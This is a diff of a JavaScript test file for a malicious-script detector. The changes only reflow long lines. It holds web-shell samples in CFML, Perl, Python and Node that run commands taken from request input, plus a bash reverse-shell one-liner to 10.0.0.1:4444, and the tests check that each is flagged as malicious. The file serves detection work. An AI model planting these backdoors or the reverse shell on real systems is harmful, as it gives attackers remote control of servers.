@@ -215,7 +215,10 @@ test('asp: WScript.Shell with request data, Execute of request, Chr()-built code
 });
 
 test('cfml: cfexecute with form data; Evaluate of a field name only is clean', () => {
-  const f = findingOf('x.cfm', `<cfif isDefined("form.cmd")><cfexecute name="#form.cmd#" arguments="#form.args#" timeout="5" variable="out"></cfexecute><cfoutput>#out#</cfoutput></cfif>`);
+  const f = findingOf(
+    'x.cfm',
+    `<cfif isDefined("form.cmd")><cfexecute name="#form.cmd#" arguments="#form.args#" timeout="5" variable="out"></cfexecute><cfoutput>#out#</cfoutput></cfif>`,
+  );
   assert.equal(f?.verdict, 'malicious');
   assert.equal(f?.language, 'cfml');
   assert.ok(reasons(f).includes('request input reaches cfexecute'));
@@ -226,9 +229,15 @@ test('perl, python, node, shell: request input into command execution; plain scr
   const pl = findingOf('x.cgi', `#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $c = $q->param('c');\nprint "Content-type: text/plain\\n\\n";\nprint \`$c\`;\n`);
   assert.equal(pl?.verdict, 'malicious');
   assert.equal(pl?.language, 'perl');
-  const py = findingOf('x.py', `#!/usr/bin/env python3\nimport cgi, subprocess\nform = cgi.FieldStorage()\ncmd = form.getvalue('c')\nprint(subprocess.check_output(cmd, shell=True))\n`);
+  const py = findingOf(
+    'x.py',
+    `#!/usr/bin/env python3\nimport cgi, subprocess\nform = cgi.FieldStorage()\ncmd = form.getvalue('c')\nprint(subprocess.check_output(cmd, shell=True))\n`,
+  );
   assert.equal(py?.verdict, 'malicious');
-  const js = findingOf('srv.js', `const http = require('http');\nconst { exec } = require('child_process');\nhttp.createServer((req, res) => { const u = new URL(req.url, 'http://x'); exec(u.searchParams.get('c'), (e, o) => res.end(o)); }).listen(8080);\n`);
+  const js = findingOf(
+    'srv.js',
+    `const http = require('http');\nconst { exec } = require('child_process');\nhttp.createServer((req, res) => { const u = new URL(req.url, 'http://x'); exec(u.searchParams.get('c'), (e, o) => res.end(o)); }).listen(8080);\n`,
+  );
   assert.equal(js?.verdict, 'malicious');
   assert.equal(js?.language, 'node');
   const sh = findingOf('r.sh', `#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n`);
